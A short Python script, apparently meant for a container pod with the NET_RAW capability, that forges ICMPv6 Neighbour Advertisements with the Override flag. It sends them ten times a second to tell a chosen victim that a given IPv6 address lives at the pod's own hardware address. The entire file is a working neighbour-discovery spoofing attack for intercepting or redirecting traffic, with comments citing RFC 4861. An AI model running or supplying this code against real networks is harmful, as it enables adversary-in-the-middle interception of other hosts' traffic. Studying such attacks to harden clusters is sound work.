# A pod with NET_RAW: `claim_neighbour.py SECONDS ADDRESS=ASKER` tells the asker, ten times a second, that the IPv6 address is at
# this pod's own hardware address.
import socket
import struct
import sys
import time

OVERRIDE = 0x20000000

with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
    frames.bind(("eth0", 0x86DD))
    own = frames.getsockname()[4]
address, asker = sys.argv[2].split("=")
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
# Others are not believed (RFC 4861 section 7.1.2).
raw.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
# A neighbour advertisement (section 4.4) with the option of the target's link-layer address; the kernel fills in the checksum.
claim = struct.pack("!BBHI", 136, 0, 0, OVERRIDE) + socket.inet_pton(socket.AF_INET6, address) + b"\x02\x01" + own
until = time.monotonic() + float(sys.argv[1])
while time.monotonic() < until:
    raw.sendto(claim, (asker, 0))
    time.sleep(0.1)
